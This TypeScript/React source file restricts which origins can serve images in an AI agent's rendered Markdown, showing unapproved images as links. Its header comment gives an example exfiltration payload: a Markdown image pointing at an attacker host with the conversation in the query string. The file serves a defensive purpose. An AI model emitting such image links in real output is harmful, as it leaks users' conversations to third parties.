/**
 * Where agent Markdown may load images from. An image URL can carry anything the agent was shown
 * (`![](https://attacker.example/p.png?d=<conversation>)`), and the browser fetches it unasked: only the origins
 * the host allows (`allowedImageOrigins`, the server's ALLOWED_IMAGE_ORIGINS) are loaded; every other image is
 * shown as a link naming its host.
 */
import { createContext, useContext } from 'react';

export const ImageOriginsContext = createContext<ReadonlySet<string>>(new Set());

export type ImageSource = { url: URL; allowed: boolean } | null;

/** An http(s) image URL and whether it may load; null for anything else (a half-streamed or relative URL). */
export function useImageSource(src: unknown): ImageSource {
  const allowed = useContext(ImageOriginsContext);
  if (typeof src !== 'string' || !/^https?:\/\//i.test(src) || !URL.canParse(src)) return null;
  const url = new URL(src);
  return { url, allowed: allowed.has(url.origin) };
}

/** The origins as the browser writes them (`https://images.example.com`), whatever their spelling. */
export function imageOrigins(origins: readonly string[] | undefined): ReadonlySet<string> {
  return new Set((origins ?? []).filter((o) => URL.canParse(o)).map((o) => new URL(o).origin));
}
